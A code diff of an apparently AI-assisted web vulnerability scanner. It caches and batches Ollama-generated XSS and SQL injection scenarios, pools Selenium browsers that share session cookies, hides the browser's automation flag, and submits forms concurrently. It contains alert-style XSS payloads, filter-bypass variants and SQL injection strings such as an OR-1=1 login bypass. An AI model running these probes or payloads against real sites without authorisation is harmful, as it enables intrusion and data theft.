+        # Runs scenario generation in the background while the browser is busy
+        self._executor = ThreadPoolExecutor(max_workers=4)
+        
         self.enabled = self.check_ollama()
     
     def check_ollama(self) -> bool:
         """Check if Ollama is running"""
         try:
-            response = requests.get("http://localhost:11434/api/tags", timeout=2)
+            response = self.session.get("http://localhost:11434/api/tags", timeout=2)
             if response.status_code == 200:
                 print("✅ AI (Ollama) is available")
                 return True
@@ -45,9 +887,73 @@ class LLMManager:
         print("⚠️  AI (Ollama) not available - using static payloads only")
         return False
     
+    def _load_cache(self):
+        """Load scenarios and analyses saved by earlier runs"""
+        try:
+            with open(_LLM_CACHE_FILE, 'r', encoding='utf-8') as f:
+                saved = json.load(f)
+        except (OSError, ValueError):
+            return
+        if not isinstance(saved, dict):
+            return
+        for cache, section in ((self._scenario_cache, 'scenarios'), (self._analysis_cache, 'analyses')):
+            entries = saved.get(section)
+            if isinstance(entries, dict):
+                cache.update(list(entries.items())[-_LLM_CACHE_MAX_ENTRIES:])
+    
+    def _cache_get(self, cache: OrderedDict, key: str):
+        """Cached value for key, marked as most recently used, or None"""
+        try:
+            cache.move_to_end(key)
+            return cache[key]
+        except KeyError:
+            return None
+    
+    def _cache_put(self, cache: OrderedDict, key: str, value):
+        """Store a value, dropping the least recently used entries over the limit"""
+        cache[key] = value
+        cache.move_to_end(key)
+        while len(cache) > _LLM_CACHE_MAX_ENTRIES:
+            cache.popitem(last=False)
+        self._cache_dirty = True
+    
+    def _save_cache(self):
+        """Persist scenarios and analyses for later runs, if this run added any"""
+        if not self._cache_dirty:
+            return
+        try:
+            with open(_LLM_CACHE_FILE, 'w', encoding='utf-8') as f:
+                json.dump({'scenarios': dict(self._scenario_cache),
+                           'analyses': dict(self._analysis_cache)}, f)
+        except OSError as e:
+            print(f"⚠️  Could not save AI cache: {e}")
+    
+    def _fingerprint(self, element: Dict, test_type: str) -> str:
+        """Stable cache key built from the element fields that reach the prompt, never its URL"""
+        return json.dumps([
+            test_type,
+            element.get('type'),
+            element.get('name', 'unknown'),
+            element.get('input_type', 'text'),
+            element.get('attributes', {})
+        ], sort_keys=True, default=str)
+    
+    def _analysis_key(self, test_result: Dict) -> str:
+        """Cache key of a finding: its type, database and payload family"""
+        return json.dumps([
+            test_result.get('type') or test_result.get('test_type'),
+            test_result.get('sql_error_type'),
+            payload_class(test_result.get('payload'))
+        ])
+    
     def generate_security_scenarios(self, element: Dict, test_type: str) -> List[Dict]:
         """Generate intelligent security test scenarios using AI"""
         
+        fingerprint = self._fingerprint(element, test_type)
+        cached = self._cache_get(self._scenario_cache, fingerprint)
+        if cached is not None:
+            return list(cached)
+        
         if not self.enabled:
             return self.get_static_scenarios(element, test_type)
         
@@ -75,7 +981,7 @@ Return ONLY valid JSON array with this structure:
 IMPORTANT: Return ONLY the JSON array, no other text."""
 
         try:
-            response = requests.post(
+            response = self.session.post(
                 self.ollama_url,
                 json={
                     "model": self.model,
@@ -90,62 +996,110 @@ IMPORTANT: Return ONLY the JSON array, no other text."""
                 text = result.get('response', '').strip()
                 
                 # Extract JSON from response
-                json_match = re.search(r'\[.*\]', text, re.DOTALL)
+                json_match = _JSON_ARRAY_RE.search(text)
                 if json_match:
                     scenarios = json.loads(json_match.group())
-                    return scenarios
+                    self._cache_put(self._scenario_cache, fingerprint, scenarios)
+                    return list(scenarios)
         
         except Exception as e:
             print(f"    AI generation failed: {e}, using static")
         
         return self.get_static_scenarios(element, test_type)
     
+    def generate_security_scenarios_batch(self, elements: List[Dict], test_type: str) -> Dict[int, List[Dict]]:
+        """Generate scenarios for several elements with a single AI call"""
+        
+        missing = [e for e in elements if self._fingerprint(e, test_type) not in self._scenario_cache]
+        
+        if self.enabled and len(missing) > 1:
+            batch = self._request_scenarios_batch(missing, test_type)
+            if batch:
+                for i, element in enumerate(missing):
+                    self._cache_put(self._scenario_cache, self._fingerprint(element, test_type), batch[i])
+        
+        # Cached entries are returned directly; anything still missing is generated per element
+        return {i: self.generate_security_scenarios(e, test_type) for i, e in enumerate(elements)}
+    
+    def prefetch_scenarios(self, elements: List[Dict], test_type: str) -> Future:
+        """Start batch scenario generation in the background"""
+        return self._executor.submit(self.generate_security_scenarios_batch, elements, test_type)
+    
+    def close(self):
+        """Stop background generation, save the AI cache and release HTTP connections"""
+        self._executor.shutdown(wait=False)
+        self._save_cache()
+        self.session.close()
+    
+    def _request_scenarios_batch(self, elements: List[Dict], test_type: str) -> Dict[int, List[Dict]]:
+        """Ask the AI for scenarios of all elements at once, or None if the reply is unusable"""
+        
+        element_lines = "\n".join(
+            f"{i}. Type: {e.get('type')}, Name: {e.get('name', 'unknown')}, "
+            f"Input Type: {e.get('input_type', 'text')}, Attributes: {e.get('attributes', {})}"
+            for i, e in enumerate(elements)
+        )
+        
+        prompt = f"""You are a security testing expert. For EACH element indexed 0..{len(elements) - 1} below, generate 5 different {test_type} test scenarios with specific payloads.
+
+{element_lines}
+
+Return ONLY a valid JSON object keyed by element index, each value a JSON array with this structure:
+{{
+  "0": [
+    {{
+      "scenario_id": "SEC_001",
+      "title": "Test description",
+      "type": "{test_type}",
+      "payload": "actual payload to test",
+      "expected_behavior": "what should happen",
+      "attack_vector": "how attack works",
+      "severity": "CRITICAL|HIGH|MEDIUM|LOW"
+    }}
+  ]
+}}
+
+IMPORTANT: Return ONLY the JSON object, no other text."""
+
+        try:
+            response = self.session.post(
+                self.ollama_url,
+                json={
+                    "model": self.model,
+                    "prompt": prompt,
+                    "stream": False
+                },
+                timeout=30 * len(elements)
+            )
+            
+            if response.status_code == 200:
+                result = response.json()
+                text = result.get('response', '').strip()
+                
+                json_match = _JSON_OBJ_RE.search(text)
+                if json_match:
+                    parsed = json.loads(json_match.group())
+                    batch = {}
+                    for i in range(len(elements)):
+                        scenarios = parsed.get(str(i))
+                        if isinstance(scenarios, list):
+                            batch[i] = scenarios
+                    if len(batch) == len(elements):
+                        return batch
+        
+        except Exception as e:
+            print(f"    AI batch generation failed: {e}, generating per element")
+        
+        return None
+    
     def get_static_scenarios(self, element: Dict, test_type: str) -> List[Dict]:
         """Fallback static scenarios when AI unavailable"""
         
         if test_type == "XSS":
-            return [
-                {
-                    "scenario_id": "XSS_STATIC_001",
-                    "title": "Basic XSS with script tag",
-                    "type": "XSS",
-                    "payload": "<script>alert('XSS')</script>",
-                    "expected_behavior": "Script should be sanitized",
-                    "attack_vector": "Direct script injection",
-                    "severity": "HIGH"
-                },
-                {
-                    "scenario_id": "XSS_STATIC_002",
-                    "title": "XSS via img onerror",
-                    "type": "XSS",
-                    "payload": "<img src=x onerror=alert('XSS')>",
-                    "expected_behavior": "Event handler should be stripped",
-                    "attack_vector": "Event handler injection",
-                    "severity": "HIGH"
-                }
-            ]
+            return list(_XSS_STATIC_SCENARIOS)
         
         elif test_type == "SQL_INJECTION":
-            return [
-                {
-                    "scenario_id": "SQLI_STATIC_001",
-                    "title": "Authentication bypass attempt",
-                    "type": "SQL_INJECTION",
-                    "payload": "' OR '1'='1' --",
-                    "expected_behavior": "Should reject invalid input",
-                    "attack_vector": "Boolean-based authentication bypass",
-                    "severity": "CRITICAL"
-                },
-                {
-                    "scenario_id": "SQLI_STATIC_002",
-                    "title": "Union-based data extraction",
-                    "type": "SQL_INJECTION",
-                    "payload": "' UNION SELECT NULL,NULL,NULL--",
-                    "expected_behavior": "Should use parameterized queries",
-                    "attack_vector": "Union-based SQL injection",
-                    "severity": "CRITICAL"
-                }
-            ]
+            return list(_SQLI_STATIC_SCENARIOS)
         
         return []
     
@@ -159,6 +1113,11 @@ IMPORTANT: Return ONLY the JSON array, no other text."""
                 "recommendations": ["Use parameterized queries", "Implement input validation"]
             }
         
+        key = self._analysis_key(test_result)
+        cached = self._cache_get(self._analysis_cache, key)
+        if cached is not None:
+            return dict(cached)
+        
         prompt = f"""Analyze this security test result:
 
 Test Type: {test_result.get('type')}
@@ -182,7 +1141,7 @@ Return ONLY valid JSON:
 }}"""
 
         try:
-            response = requests.post(
+            response = self.session.post(
                 self.ollama_url,
                 json={
                     "model": self.model,
@@ -196,9 +1155,11 @@ Return ONLY valid JSON:
                 result = response.json()
                 text = result.get('response', '').strip()
                 
-                json_match = re.search(r'\{.*\}', text, re.DOTALL)
+                json_match = _JSON_OBJ_RE.search(text)
                 if json_match:
-                    return json.loads(json_match.group())
+                    analysis = json.loads(json_match.group())
+                    self._cache_put(self._analysis_cache, key, analysis)
+                    return dict(analysis)
         
         except Exception as e:
             pass
@@ -211,6 +1172,108 @@ Return ONLY valid JSON:
         }
 
 
+class WebDriverPool:
+    """Thread-safe pool of browser sessions for parallel test execution"""
+    
+    def __init__(self, factory, size: int = 4):
+        self.factory = factory
+        self.size = size
+        self._idle = queue.Queue()
+        self._drivers = []
+        self._started = 0  # slots taken by started or starting drivers
+        self._closed = False
+        self._lock = threading.Lock()
+    
+    def acquire(self):
+        """Check out an idle driver, starting a new one while below pool size"""
+        wait = False
+        while True:
+            try:
+                driver = self._idle.get(timeout=1) if wait else self._idle.get_nowait()
+            except queue.Empty:
+                driver = None
+            if driver is _POOL_CLOSED:
+                self._idle.put(driver)  # wake the next waiter too
+                raise RuntimeError("WebDriver pool is closed")
+            if driver is not None:
+                return driver
+            
+            # Only the slot is reserved under the lock; browser start-up takes seconds
+            with self._lock:
+                if self._closed:
+                    raise RuntimeError("WebDriver pool is closed")
+                reserved = self._started < self.size
+                if reserved:
+                    self._started += 1
+            if reserved:
+                return self._start()
+            
+            # Re-checked periodically in case a failed start gave its slot back
+            wait = True
+    
+    def _start(self):
+        """Start a driver in a reserved slot, giving the slot back if it fails"""
+        try:
+            driver = self.factory()
+        except Exception:
+            with self._lock:
+                self._started -= 1
+            raise
+        
+        with self._lock:
+            closed = self._closed
+            if not closed:
+                self._drivers.append(driver)
+        if closed:
+            try:
+                driver.quit()
+            except:
+                pass
+            raise RuntimeError("WebDriver pool is closed")
+        return driver
+    
+    def prewarm(self):
+        """Start every driver not started yet, all at once, so early probes don't wait on browser start-up"""
+        with self._lock:
+            missing = 0 if self._closed else self.size - self._started
+            if missing <= 0:
+                return
+            self._started += missing
+        
+        with ThreadPoolExecutor(max_workers=missing) as executor:
+            futures = [executor.submit(self._start) for _ in range(missing)]
+        for future in futures:
+            try:
+                self._idle.put(future.result())
+            except Exception:
+                continue
+    
+    def release(self, driver):
+        """Return a driver to the pool"""
+        self._idle.put(driver)
+    
+    @contextmanager
+    def driver(self):
+        """Borrow a driver for the duration of a with-block"""
+        driver = self.acquire()
+        try:
+            yield driver
+        finally:
+            self.release(driver)
+    
+    def close(self):
+        """Quit every driver started by the pool and fail any thread still waiting for one"""
+        with self._lock:
+            self._closed = True
+            drivers, self._drivers = self._drivers, []
+        for driver in drivers:
+            try:
+                driver.quit()
+            except:
+                pass
+        self._idle.put(_POOL_CLOSED)
+
+
 class AdvancedSecurityTester:
     """Main Advanced Security Testing Engine with AI"""
     
@@ -225,11 +1288,38 @@ class AdvancedSecurityTester:
         
         self.test_counter = 0
         self.vulnerabilities_found = 0
+        self.duplicate_scenarios_skipped = 0
+        self.profile_timings = False  # keep execution_time on non-vulnerable tests too
+        self.driver_pool = None
+        self._session_cookies = []  # main browser cookies copied into pool browsers as they start
+        self._log_lock = threading.Lock()
+        self._xpath_cache = weakref.WeakKeyDictionary()  # WebElement -> XPath, dropped with the element
+        self._io_executor = ThreadPoolExecutor(max_workers=2)
+        
+        # AI analysis of findings runs here so probing doesn't wait on the LLM
+        self._ai_executor = ThreadPoolExecutor(max_workers=2)
+        self._pending_work = {}  # id(test log) -> [Future], waited on before the log is written
+        self._analyses_by_class = {}  # (target, finding class) -> (analysis, Future)
+        
+        # Evidence for URL-reproducible findings is captured here on pooled drivers
+        self._capture_executor = ThreadPoolExecutor(max_workers=2)
         
         # Create directories
         os.makedirs('screenshots', exist_ok=True)
         os.makedirs('detailed_logs', exist_ok=True)
         
+        # Test logs are appended to one JSONL file by a background writer
+        self.log_file = 'detailed_logs/tests.jsonl'
+        self._log_queue = queue.Queue()
+        self._log_thread = threading.Thread(target=self._log_writer, daemon=True)
+        self._log_thread.start()
+        
+        # Plain HTTP client for probes that only need the response body
+        self.http = requests.Session()
+        self.http.headers['User-Agent'] = _USER_AGENT
+        self.http.mount('http://', HTTPAdapter(pool_connections=4, pool_maxsize=16))
+        self.http.mount('https://', HTTPAdapter(pool_connections=4, pool_maxsize=16))
+        
         # Initialize AI
         self.llm = LLMManager()
         
@@ -269,22 +1359,76 @@ class AdvancedSecurityTester:
 """
         return banner
     
-    def initialize_browser(self, headless=False):
-        """Initialize Selenium browser"""
+    def create_driver(self, headless=False):
+        """Start a configured Chrome session"""
+        options = webdriver.ChromeOptions()
+        if headless:
+            options.add_argument('--headless')
+        options.add_argument('--no-sandbox')
+        options.add_argument('--disable-dev-shm-usage')
+        options.add_argument('--disable-gpu')
+        options.add_argument('--disable-blink-features=AutomationControlled')
+        options.add_argument(f'user-agent={_USER_AGENT}')
+        
+        # Probes only need HTML and JS: skip images, notifications and extra features
+        options.add_experimental_option('prefs', {
+            'profile.managed_default_content_settings.images': 2,
+            'profile.default_content_setting_values.notifications': 2
+        })
+        options.add_argument('--blink-settings=imagesEnabled=false')
+        options.add_argument('--disable-features=Translate,BackForwardCache')
+        options.add_argument('--disk-cache-size=104857600')
+        
+        # Enable logging
+        options.set_capability('goog:loggingPrefs', {'browser': 'ALL', 'performance': 'ALL'})
+        
+        # get() returns at DOMContentLoaded; wait_for_page_ready covers onload-dependent checks
+        options.page_load_strategy = 'eager'
+        
+        # Reuse one HTTP connection to chromedriver for every WebDriver command
+        driver = webdriver.Chrome(options=options, keep_alive=True)
+        driver.set_page_load_timeout(8)
+        driver.execute_cdp_cmd('Page.addScriptToEvaluateOnNewDocument', {'source': _XSS_SENTINEL_JS})
+        
+        # Web fonts and media are never needed; stylesheets stay since visibility checks depend on them
+        try:
+            driver.execute_cdp_cmd('Network.enable', {})
+            driver.execute_cdp_cmd('Network.setBlockedURLs', {'urls': list(_BLOCKED_ASSET_PATTERNS)})
+        except Exception:
+            pass
+        return driver
+    
+    def create_pooled_driver(self, headless=False):
+        """Start a pool browser carrying the main browser's session cookies"""
+        driver = self.create_driver(headless)
+        if self._session_cookies:
+            try:
+                driver.execute_cdp_cmd('Network.setCookies', {'cookies': self._session_cookies})
+            except Exception:
+                pass
+        return driver
+    
+    def share_session(self):
+        """Snapshot the main browser's cookies for pool browsers started from now on"""
+        try:
+            cookies = self.driver.execute_cdp_cmd('Network.getAllCookies', {})['cookies']
+        except Exception:
+            return
+        
+        # Only settable fields; session cookies are left without an expiry
+        session_cookies = []
+        for cookie in cookies:
+            param = {key: cookie[key] for key in _COOKIE_PARAM_FIELDS if key in cookie}
+            if cookie.get('session'):
+                param.pop('expires', None)
+            session_cookies.append(param)
+        self._session_cookies = session_cookies
+    
+    def initialize_browser(self, headless=False, pool_size=4):
+        """Initialize Selenium browser and the driver pool used for parallel probes"""
         try:
-            options = webdriver.ChromeOptions()
-            if headless:
-                options.add_argument('--headless')
-            options.add_argument('--no-sandbox')
-            options.add_argument('--disable-dev-shm-usage')
-            options.add_argument('--disable-blink-features=AutomationControlled')
-            options.add_argument('user-agent=Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
-            
-            # Enable logging
-            options.set_capability('goog:loggingPrefs', {'browser': 'ALL', 'performance': 'ALL'})
-            
-            self.driver = webdriver.Chrome(options=options)
-            self.driver.set_page_load_timeout(30)
+            self.driver = self.create_driver(headless)
+            self.driver_pool = WebDriverPool(lambda: self.create_pooled_driver(headless), pool_size)
             print("✅ Browser initialized successfully")
             return True
         except Exception as e:
@@ -293,72 +1437,349 @@ class AdvancedSecurityTester:
     
     def close_browser(self):
         """Close browser"""
+        # Finish pending evidence captures, AI analyses and screenshot/file writes
+        self._capture_executor.shutdown(wait=True)
+        self._ai_executor.shutdown(wait=True)
+        self._io_executor.shutdown(wait=True)
+        
+        if self.driver_pool:
+            self.driver_pool.close()
         if hasattr(self, 'driver'):
             self.driver.quit()
             print("✅ Browser closed")
+        self.http.close()
+        self.llm.close()
+    
+    def write_file_async(self, filename: str, data: bytes):
+        """Write a file on the background I/O thread"""
+        def write():
+            with open(filename, 'wb') as f:
+                f.write(data)
+        
+        self._io_executor.submit(write)
+    
+    def fetch_all(self, urls: List[str]) -> List[Future]:
+        """GET several URLs concurrently without a browser; each future gives (seconds, body)"""
+        # Send the browser's cookies so responses match what the driver would see
+        try:
+            for cookie in self.driver.get_cookies():
+                self.http.cookies.set(cookie['name'], cookie['value'],
+                                      domain=cookie.get('domain'), path=cookie.get('path', '/'))
+        except Exception:
+            pass
+        
+        def fetch(url):
+            start_time = time.perf_counter_ns()
+            response = self.http.get(url, timeout=15)
+            return elapsed_seconds(start_time), response.text
+        
+        with ThreadPoolExecutor(max_workers=max(1, min(len(urls), 16))) as executor:
+            return [executor.submit(fetch, url) for url in urls]
     
-    def take_screenshot(self, scenario_id: str, description: str) -> str:
-        """Take screenshot with annotation"""
+    def submit_all(self, action: str, method: str, form_datas: List[List], driver=None) -> List[Future]:
+        """Submit form data several times concurrently without a browser, each submission in its own
+        cookie session; each future gives (seconds, final URL, status code, lowercased body)"""
+        driver = driver or self.driver
+        try:
+            # The cookies the browser itself would send to the action, even on another host
+            cookies = driver.execute_cdp_cmd('Network.getCookies', {'urls': [action]})['cookies']
+        except Exception:
+            try:
+                cookies = driver.get_cookies()
+            except Exception:
+                cookies = []
+        
+        def submit(data):
+            # A fresh session keeps one login's cookies from leaking into the next
+            with requests.Session() as session:
+                session.headers.update(self.http.headers)
+                for cookie in cookies:
+                    session.cookies.set(cookie['name'], cookie['value'],
+                                        domain=cookie.get('domain'), path=cookie.get('path', '/'))
+                start_time = time.perf_counter_ns()
+                if method == 'GET':
+                    response = session.get(action, params=data, timeout=15)
+                else:
+                    response = session.post(action, data=data, timeout=15)
+                return elapsed_seconds(start_time), response.url, response.status_code, response.text.lower()
+        
+        with ThreadPoolExecutor(max_workers=max(1, min(len(form_datas), 8))) as executor:
+            return [executor.submit(submit, data) for data in form_datas]
+    
+    def capture_in_browser(self, url: str, scenario_id: str, description: str) -> Dict:
+        """Load a URL on a pooled driver and take its screenshot and console errors"""
+        try:
+            with self.driver_pool.driver() as driver:
+                driver.get(url)
+                self.wait_for_page_ready(driver=driver)
+                return {
+                    'console_errors': self.get_console_errors(driver),
+                    'screenshot': self.take_screenshot(scenario_id, description, driver)
+                }
+        except Exception as e:
+            print(f"    ❌ Browser capture failed: {e}")
+            return {'console_errors': [], 'screenshot': None}
+    
+    def capture_in_browser_async(self, url: str, scenario_id: str, description: str, test_log: Dict, *records: Dict):
+        """Capture a finding's evidence in the background; test_log and records get its
+        console_errors and screenshot when it completes"""
+        def capture():
+            evidence = self.capture_in_browser(url, scenario_id, description)
+            for record in (test_log,) + records:
+                record.update(evidence)
+        
+        with self._log_lock:
+            future = self._capture_executor.submit(capture)
+            self._pending_work.setdefault(id(test_log), []).append(future)
+    
+    def get_site_cookies(self, url: str, driver=None) -> List[Dict]:
+        """Cookies the browser holds for url, loading it only if the driver is on another site"""
+        driver = driver or self.driver
+        if urlparse(driver.current_url).netloc != urlparse(url).netloc:
+            driver.get(url)
+            self.wait_for_page_ready(driver=driver)
+        
+        try:
+            # CDP returns the same cookie fields in one call, scoped to this URL
+            return driver.execute_cdp_cmd('Network.getCookies', {'urls': [url]})['cookies']
+        except Exception:
+            return driver.get_cookies()
+    
+    def get_response_cookies(self, url: str) -> List[Dict]:
+        """Cookies set through Set-Cookie headers while loading url, redirects included, without a browser"""
+        try:
+            # A fresh session so cookies already held don't stop the site from setting them again
+            with requests.Session() as session:
+                session.headers.update(self.http.headers)
+                response = session.get(url, timeout=15)
+        except requests.RequestException:
+            return []
+        
+        cookies = {}
+        for hop in response.history + [response]:
+            for header in hop.raw.headers.getlist('Set-Cookie'):
+                cookie = parse_set_cookie(header)
+                cookies[cookie['name'], cookie.get('domain'), cookie.get('path')] = cookie
+        return list(cookies.values())
+    
+    def find_page_indicators(self, indicators: Tuple[str, ...], driver=None) -> List[str]:
+        """Indicators present in the lowercased document, matched in the browser so only the hits come back"""
+        return (driver or self.driver).execute_script(_PAGE_INDICATORS_JS, list(indicators))
+    
+    def get_page_source_lower(self, driver=None) -> str:
+        """Lowercased document HTML, lowercased in the browser to skip a Python-side copy"""
+        return (driver or self.driver).execute_script(_LOWER_SOURCE_JS)
+    
+    def get_navigation_timing(self, driver=None):
+        """(time origin, server response seconds) of the current document, or None if unavailable"""
+        try:
+            timing = (driver or self.driver).execute_script(_NAVIGATION_TIMING_JS)
+        except:
+            return None
+        return tuple(timing) if timing else None
+    
+    def wait_after_submit(self, old_url: str, timeout=2, driver=None, element=None):
+        """Wait for a submission to navigate or detach element (up to timeout seconds) and the new page to load"""
+        driver = driver or self.driver
+        condition = EC.url_changes(old_url)
+        if element is not None:
+            condition = EC.any_of(condition, EC.staleness_of(element))
+        try:
+            WebDriverWait(driver, timeout).until(condition)
+        except (TimeoutException, UnexpectedAlertPresentException):
+            pass
+        self.wait_for_page_ready(driver=driver)
+    
+    def find_login_fields(self, timeout=2, driver=None):
+        """Username and password inputs, waiting up to timeout seconds for a script-rendered form"""
+        driver = driver or self.driver
+        password_field = WebDriverWait(driver, timeout).until(
+            EC.presence_of_element_located((By.CSS_SELECTOR, 'input[type="password"]')))
+        username_field = driver.find_element(By.CSS_SELECTOR, 
+            'input[name*="user"], input[name*="email"], input[type="email"]')
+        return username_field, password_field
+    
+    def wait_for_page_ready(self, timeout=2, driver=None):
+        """Wait until the document has finished loading, at most timeout seconds"""
+        try:
+            WebDriverWait(driver or self.driver, timeout).until(
+                lambda d: d.execute_script("return document.readyState === 'complete'")
+            )
+        except (TimeoutException, UnexpectedAlertPresentException):
+            # An open dialog means a payload fired; leave it for the XSS check
+            pass
+    
+    def take_screenshot(self, scenario_id: str, description: str, driver=None) -> str:
+        """Take a fast viewport screenshot and save it in the background"""
+        driver = driver or self.driver
         try:
             timestamp = datetime.now().strftime('%Y%m%d_%H%M%S')
-            filename = f"screenshots/{scenario_id}_{timestamp}.png"
             
-            self.driver.save_screenshot(filename)
+            try:
+                # Viewport-only JPEG through CDP is much cheaper than a full PNG capture
+                data = driver.execute_cdp_cmd('Page.captureScreenshot', {
+                    'format': 'jpeg',
+                    'quality': 70,
+                    'optimizeForSpeed': True,
+                    'captureBeyondViewport': False
+                })
+                filename = f"screenshots/{scenario_id}_{timestamp}.jpg"
+                self.write_file_async(filename, base64.b64decode(data['data']))
+            except Exception:
+                filename = f"screenshots/{scenario_id}_{timestamp}.png"
+                driver.save_screenshot(filename)
+            
             print(f"    📸 Screenshot saved: {filename}")
             return filename
         except Exception as e:
             print(f"    ❌ Screenshot failed: {e}")
             return None
     
-    def get_element_xpath(self, element) -> str:
+    def get_element_xpath(self, element, driver=None) -> str:
         """Get exact XPath of element"""
+        xpath = self._xpath_cache.get(element)
+        if xpath is None:
+            try:
+                xpath = (driver or self.driver).execute_script(_XPATH_JS + "return getPathTo(arguments[0]);", element)
+            except:
+                return "Unknown"
+            self._xpath_cache[element] = xpath
+        return xpath
+    
+    def get_element_xpaths(self, elements, driver=None) -> List[str]:
+        """Get XPaths of several elements in one browser round-trip"""
+        missing = [element for element in elements if element not in self._xpath_cache]
+        if missing:
+            try:
+                xpaths = (driver or self.driver).execute_script(_XPATH_JS + """
+                    return arguments[0].map(function (element) {
+                        try { return getPathTo(element); } catch (e) { return null; }
+                    });
+                """, missing)
+                for element, xpath in zip(missing, xpaths):
+                    if xpath is not None:
+                        self._xpath_cache[element] = xpath
+            except:
+                pass
+        return [self._xpath_cache.get(element, "Unknown") for element in elements]
+    
+    def get_forms_metadata(self, token_indicators=(), driver=None) -> List[Dict]:
+        """Get action, method, id, XPath, inputs and token field of every form in one browser round-trip"""
         try:
-            return self.driver.execute_script("""
-                function getPathTo(element) {
-                    if (element.id !== '')
-                        return 'id("' + element.id + '")';
-                    if (element === document.body)
-                        return element.tagName;
-
-                    var ix = 0;
-                    var siblings = element.parentNode.childNodes;
-                    for (var i = 0; i < siblings.length; i++) {
-                        var sibling = siblings[i];
-                        if (sibling === element)
-                            return getPathTo(element.parentNode) + '/' + element.tagName + '[' + (ix + 1) + ']';
-                        if (sibling.nodeType === 1 && sibling.tagName === element.tagName)
-                            ix++;
-                    }
-                }
-                return getPathTo(arguments[0]);
-            """, element)
+            return (driver or self.driver).execute_script(_FORMS_METADATA_JS, list(token_indicators)) or []
         except:
-            return "Unknown"
+            return []
     
-    def get_console_errors(self) -> List[str]:
+    def get_console_errors(self, driver=None) -> List[str]:
         """Get browser console errors"""
         try:
-            logs = self.driver.get_log('browser')
-            errors = []
-            for log in logs:
-                if log['level'] in ['SEVERE', 'WARNING']:
-                    errors.append(f"[{log['level']}] {log['message']}")
-            return errors
+            return [
+                f"[{log['level']}] {log['message']}"
+                for log in (driver or self.driver).get_log('browser')
+                if log['level'] in _CONSOLE_ERROR_LEVELS
+            ]
         except:
             return []
     
+    def dedupe_scenarios(self, scenarios: List[Dict]) -> List[Dict]:
+        """Drop scenarios whose payload was already queued (or is empty)"""
+        seen = set()
+        unique = []
+        for scenario in scenarios:
+            payload = scenario.get('payload')
+            if payload and payload not in seen:
+                seen.add(payload)
+                unique.append(scenario)
+        
+        with self._log_lock:
+            self.duplicate_scenarios_skipped += len(scenarios) - len(unique)
+        return unique
+    
+    def analyze_vulnerability_async(self, test_log: Dict, finding_class: Tuple = None) -> Dict:
+        """Start AI analysis of a finding; the returned dict is filled in when it completes
+        and is shared by later findings of the same finding_class on the same target"""
+        if not self.llm.enabled:
+            return self.llm.analyze_vulnerability(test_log)
+        
+        key = (test_log.get('target'), finding_class) if finding_class is not None else None
+        with self._log_lock:
+            if key in self._analyses_by_class:
+                analysis, future = self._analyses_by_class[key]
+                self._pending_work.setdefault(id(test_log), []).append(future)
+                return analysis
+        
+        analysis = {'analysis': 'pending'}
+        
+        def analyze():
+            result = self.llm.analyze_vulnerability(test_log)
+            analysis.clear()
+            analysis.update(result)
+        
+        with self._log_lock:
+            future = self._ai_executor.submit(analyze)
+            self._pending_work.setdefault(id(test_log), []).append(future)
+            if key is not None:
+                self._analyses_by_class[key] = (analysis, future)
+        return analysis
+    
+    def count_vulnerability(self) -> int:
+        """Count one more finding; phases report from several threads"""
+        with self._log_lock:
+            self.vulnerabilities_found += 1
+            return self.vulnerabilities_found
+    
     def log_test_attempt(self, test_data: Dict):
         """Log every single test attempt with full details"""
-        self.test_counter += 1
-        test_data['test_number'] = self.test_counter
-        test_data['timestamp'] = datetime.now().isoformat()
-        
-        self.results['all_tests'].append(test_data)
-        
-        # Also save to detailed log file
-        log_file = f"detailed_logs/test_{self.test_counter:04d}.json"
-        with open(log_file, 'w') as f:
-            json.dump(test_data, f, indent=2)
+        # Long text is cut down before it is kept and written twice; the hash still identifies it
+        for key in _BOUNDED_LOG_FIELDS:
+            value = test_data.get(key)
+            if isinstance(value, str) and len(value) > _LOG_TEXT_LIMIT:
+                test_data[f'{key}_sha256'] = hashlib.sha256(value.encode('utf-8')).hexdigest()
+                test_data[key] = bounded_text(value)
+        
+        with self._log_lock:
+            self.test_counter += 1
+            test_data['test_number'] = self.test_counter
+            test_data['timestamp'] = datetime.now().isoformat()
+            
+            # Timings only matter for findings unless profiling
+            if not self.profile_timings and test_data.get('status') != 'VULNERABLE':
+                test_data.pop('execution_time', None)
+            
+            self.results['all_tests'].append(test_data)
+            
+            # Also save to detailed log file (written by the background thread)
+            self._log_queue.put(test_data)
+    
+    def _log_writer(self):
+        """Append queued test logs to the JSONL log file in batches"""
+        with open(self.log_file, 'w') as f:
+            while True:
+                batch = [self._log_queue.get()]
+                while len(batch) < 64:
+                    try:
+                        batch.append(self._log_queue.get_nowait())
+                    except queue.Empty:
+                        break
+                
+                # Findings are written once their AI analysis and evidence have been filled in
+                with self._log_lock:
+                    pending = [future for item in batch for future in self._pending_work.pop(id(item), ())]
+                wait(pending)
+                
+                lines = [json.dumps(item, default=str) for item in batch if item is not None]
+                if lines:
+                    f.write('\n'.join(lines) + '\n')
+                    f.flush()
+                
+                if None in batch:
+                    return
+    
+    def flush_logs(self):
+        """Stop the log writer after it has written everything queued"""
+        if self._log_thread.is_alive():
+            self._log_queue.put(None)
+            self._log_thread.join()
 
 
 class AdvancedXSSTester:
@@ -369,47 +1790,13 @@ class AdvancedXSSTester:
         self.llm = llm
         self.main_tester = main_tester
         self.results = []
+        self._baseline_cache = {}  # (scheme, netloc, path) -> unmodified page length
+        self.non_reflective_params = set()
         
         # Enhanced XSS payloads
-        self.static_payloads = [
-            # Basic
-            "<script>alert('XSS')</script>",
-            "<img src=x onerror=alert('XSS')>",
-            "<svg onload=alert('XSS')>",
-            
-            # Advanced
-            "<script>alert(String.fromCharCode(88,83,83))</script>",
-            "<img src=x onerror=alert`1`>",
-            "<svg><script>alert&#40;1)</script>",
-            
-            # DOM-based
-            "javascript:alert('XSS')",
-            "<iframe src=javascript:alert('XSS')>",
-            "<body onload=alert('XSS')>",
-            
-            # Filter bypass
-            "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
-            "<<SCRIPT>alert('XSS');//<</SCRIPT>",
-            "<IMG SRC=\"javascript:alert('XSS');\">",
-            
-            # Event handlers
-            "<div onmouseover=alert('XSS')>hover</div>",
-            "<input onfocus=alert('XSS') autofocus>",
-            "<select onfocus=alert('XSS') autofocus>",
-            
-            # Encoded
-            "%3Cscript%3Ealert('XSS')%3C/script%3E",
-            "&#60;script&#62;alert('XSS')&#60;/script&#62;",
-            
-            # HTML5
-            "<video src=x onerror=alert('XSS')>",
-            "<audio src=x onerror=alert('XSS')>",
-            
-            # Polyglot
